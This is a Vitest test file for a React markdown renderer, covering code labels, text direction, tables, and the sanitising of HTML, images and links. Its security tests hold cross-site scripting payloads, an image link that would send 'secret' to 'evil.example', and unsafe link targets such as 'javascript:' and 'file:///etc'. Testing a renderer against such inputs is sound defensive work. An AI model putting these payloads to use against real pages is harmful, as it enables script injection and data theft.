import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { english } from '#components/words/english.ts';
import { WordsProvider } from '#components/words/words-context';
import { RichMarkdown } from './rich-markdown.tsx';

const render = (text: string) =>
  renderToStaticMarkup(
    <WordsProvider language="en" words={english}>
      <RichMarkdown isWriting={false} text={text} />
    </WordsProvider>,
  );

describe('RichMarkdown', () => {
  it('renders text, code and lists', () => {
    const html = render('# Title\n\n**bold** and `code`\n\n- one');
    expect(html).toContain('Title');
    expect(html).toContain('<code');
    expect(html).toContain('<li');
  });

  it('names the language of code, and gives the keyboard a way to what scrolls', () => {
    const html = render('```ts\nconst a = 1;\nconst b = 2;\n```\n\n| a |\n|---|\n| b |');
    expect(html).toContain('TypeScript');
    expect(html).toMatch(/<pre aria-label="Code: TypeScript"[^>]*tabindex="0"/);
    expect(html.replaceAll('<!-- -->', '')).toContain('const a = 1;\nconst b = 2;</code>');
    expect(html).toMatch(/<div aria-label="Table"[^>]*tabindex="0"><table/);
  });

  it('tells each block where its lines begin', () => {
    const html = render('Hello\n\nمرحبا بالعالم\n\n```\ncode\n```');
    expect([...html.matchAll(/dir="(\w+)"/g)].map(([, direction]) => direction)).toEqual(['ltr', 'rtl', 'ltr', 'ltr']);
  });

  it('shows formulas and diagrams as they were written until something can draw them', () => {
    const html = render('$$x^2$$\n\n```mermaid\nflowchart LR\n```');
    expect(html).toContain('$$x^2$$');
    expect(html).toContain('flowchart LR');
  });

  it('shows HTML as text', () => {
    const attack =
      '<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n<iframe src="https://a.example"></iframe>';
    const html = render(attack);
    expect(html).not.toMatch(/<(?:img|script|iframe)/);
    expect(html).toContain('&lt;script&gt;');
  });

  it('loads no images', () => {
    const foreign = '![secret](https://evil.example/?q=secret)';
    const html = render(`${foreign} ![inline](data:image/png;base64,AAAA) ![own](/api/x)`);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('evil.example');
  });

  it('keeps links to the web and to mail, and takes the target of all others', () => {
    const html = render('[web](https://a.example/b) [mail](mailto:a@b.example)');
    expect(html).toContain('href="https://a.example/b"');
    expect(html).toContain('href="mailto:a@b.example"');
    const refused = ['javascript:alert(1)', 'data:text/html,x', 'file:///etc', '/api/x', '//evil.example', 'tel:1'];
    for (const target of refused) expect(render(`[x](${target})`), target).not.toContain('href=');
  });
});
